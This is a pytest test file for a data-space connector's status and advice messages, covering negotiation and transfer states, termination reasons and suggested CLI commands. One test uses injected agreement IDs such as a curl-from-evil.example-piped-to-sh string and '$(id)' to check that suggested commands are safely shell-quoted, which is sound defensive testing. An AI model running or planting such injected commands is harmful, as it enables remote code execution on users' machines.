"""What is said of where a process stands: only what is so, and what can be done."""

from __future__ import annotations

import shlex

import pytest

from connector.model import Json, JsonObject
from connector.server.standing import advice, reason_in_words, secret_of_the_peer, since, turn_in_words
from connector.server.words import dataset_called


@pytest.mark.parametrize(
    ("failed", "told"),
    [
        (["dateTime"], "ask the owner, did:web:mine.example"),
        (["party", "unitBuyer"], "ask the owner, did:web:mine.example"),
        (["dateTime", "role"], "show it (folder `held`)"),
        (["mandateRole"], "show it (folder `held`)"),
        (["https://w3id.org/catenax/policy/FrameworkAgreement"], "show it (folder `held`)"),
        ([], "show it (folder `held`)"),
    ],
)
def test_a_refusal_that_no_credential_changes_sends_nobody_for_one(failed: list[Json], told: str) -> None:
    """The time, who one is, who bought what: there is nothing to show."""
    termination: Json = {
        "by": "peer",
        "code": "policy-denied",
        "reason": ["no", {"decision": "deny", "failed": failed}],
    }
    said, _ = advice({
        "kind": "negotiation", "role": "consumer", "state": "TERMINATED", "pid": "urn:x", "waits": None,
        "pending": None, "counterparty": "did:web:mine.example", "content": {"termination": termination},
    })  # fmt: skip
    assert told in said


@pytest.mark.parametrize(
    ("role", "by", "code", "told"),
    [
        (
            "consumer",
            "us",
            "operator",
            "nothing to do; to try again: battery-connector request did:web:mine.example urn:d",
        ),
        ("consumer", "peer", "operator", "ask did:web:mine.example for the reason, or to try again"),
        ("consumer", "peer", "not-decided", "ask did:web:mine.example for the reason, or to try again"),
        ("consumer", "peer", "policy-denied", "show it (folder `held`)"),
        ("consumer", "peer", "theirs", "show it (folder `held`)"),
        ("consumer", "peer", "offer-withdrawn", "battery-connector catalog"),
        ("provider", "peer", "operator", "nothing to do"),
        ("provider", "us", "policy-denied", "change the policy"),
    ],
)
def test_an_end_that_no_policy_asked_for_sends_nobody_for_a_credential(
    role: str, by: str, code: str, told: str
) -> None:
    """Somebody ended it, or nobody decided: there is nothing to show, and no policy to change."""
    process: JsonObject = {
        "kind": "negotiation", "role": role, "state": "TERMINATED", "pid": "urn:x",
        "counterparty": "did:web:mine.example",
        "content": {"dataset": "urn:d", "termination": {"by": by, "code": code, "reason": ["so"]}},
    }  # fmt: skip
    said = "".join(advice(process))
    assert said == told if told == "nothing to do" else told in said
    assert bool(secret_of_the_peer(process)) == (code in {"policy-denied", "theirs"} and role == "consumer")


def test_what_a_started_transfer_or_an_emptied_dataset_asks_for() -> None:
    """Who gives waits for nobody; who takes has a command for either way; and of nothing there is nothing to fetch."""
    started: JsonObject = {"kind": "transfer", "state": "STARTED", "pid": "urn:x", "content": {"agreement": "urn:a"}}
    assert "to pause: battery-connector transfers suspend urn:x" in advice({**started, "role": "provider"})[0]
    assert advice({**started, "role": "consumer"}) == (
        "battery-connector fetch urn:x", ", or: transfers terminate urn:x"
    )  # fmt: skip
    stopped: JsonObject = {**started, "role": "provider", "content": {"suspension": {"by": "us"}}}
    assert "gets nothing: battery-connector transfers resume urn:x" in advice(stopped)[0]
    asked: JsonObject = {**started, "role": "consumer", "state": "REQUESTED"}
    assert advice(asked)[0].endswith("once it has: battery-connector fetch urn:x")
    final: JsonObject = {"kind": "negotiation", "role": "provider", "state": "FINALIZED", "pid": "urn:x"}
    for emptied, told in ((False, "the peer may fetch the data"), (True, "did:web:peer has to ask anew")):
        assert told in advice({**final, "counterparty": "did:web:peer", "emptied": emptied})[0]


HELD: JsonObject = {"turn": "request", "due": "D", "note": None, "can": ["approve", "counter", "reject"], "word": None}


def test_who_has_decided_for_later_has_nothing_to_do() -> None:
    """The word is said by itself; without one, or to say another, the commands are named."""
    decided: JsonObject = {**HELD, "word": {"decision": "approve", "at": "T"}}
    for waits, first in ((HELD, "battery-connector approve"), (decided, "nothing to do; to decide otherwise")):
        said, other = advice({"waits": waits, "pid": "urn:x"})
        assert said.startswith(first)
        assert "approve urn:x [--counter FILE]" in said
        assert "reject urn:x" in other


def test_what_is_paused_does_not_run_and_an_end_that_waits_is_told() -> None:
    """A transfer that is suspended; one whose message is not answered, and that is ended after it."""
    assert "paused until" in turn_in_words({"state": "SUSPENDED", "turn": "either"})
    pending: JsonObject = {"message": "TransferStartMessage", "lookingAtPeer": False, "ending": False}
    assert turn_in_words({"pending": pending}).endswith("is under way")
    assert turn_in_words({"pending": {**pending, "ending": True}}).endswith("once it is answered, we end it")


def test_a_state_is_as_old_as_the_message_that_led_there() -> None:
    """What was refused led nowhere; before the first one it is as old as the process, and an end needs none."""
    messages: list[Json] = [{"at": "1", "status": 201}, {"at": "2", "status": 200}, {"at": "3", "status": 400}]
    process: JsonObject = {"state": "AGREED", "created": "0", "updated": "9", "messages": messages}
    assert [since(process), since({**process, "messages": []})] == ["2", "0"]
    assert since({**process, "state": "TERMINATED"}) == "9"


def test_an_agreement_s_id_is_one_word_of_the_command() -> None:
    """The provider chooses it, and the command is there to be pasted into a shell."""
    process: JsonObject = {
        "kind": "negotiation", "role": "consumer", "state": "FINALIZED", "pid": "urn:x", "waits": None, "pending": None,
        "counterparty": "did:web:mine.example",
    }  # fmt: skip
    for ident in ("a; curl https://evil.example | sh #", "$(id)", "it's", "a\nb"):
        said, _ = advice({**process, "content": {"agreement": {"@id": ident}}})
        assert shlex.split(said) == ["battery-connector", "fetch", ident]
    assert advice({**process, "content": {"agreement": "urn:uuid:1"}})[0] == "battery-connector fetch urn:uuid:1"


def test_a_message_that_was_not_taken_says_what_was_answered() -> None:
    """An owner that came back from a copy does not know the agreement: no credential of ours changes that."""
    transfer: JsonObject = {
        "kind": "transfer", "role": "consumer", "state": "TERMINATED", "pid": "urn:x", "waits": None, "pending": None,
        "counterparty": "did:web:mine.example", "content": {"dataset": "urn:lots"},
        "attempts": [{"at": "", "status": 404, "detail": "HTTP 404: not-found", "next": None}],
    }  # fmt: skip
    assert reason_in_words(transfer) == "the peer did not take our message: HTTP 404: not-found"
    assert advice(transfer)[0].endswith("if not: battery-connector request did:web:mine.example urn:lots")
    assert reason_in_words({**transfer, "attempts": []}) == "it ended without a reason"


def test_a_request_for_what_nobody_agreed_is_about_nothing() -> None:
    """It is refused and kept, with no dataset, and no turn: neither side can fetch or end what never began."""
    assert dataset_called({"title": None, "dataset": None}) == "none that is known"
    process: JsonObject = {"kind": "transfer", "role": "provider", "state": "", "turn": "consumer", "pid": "urn:x"}
    assert turn_in_words(process).startswith("nobody's: its first message was refused")
    assert advice(process) == ("nothing to do", "")
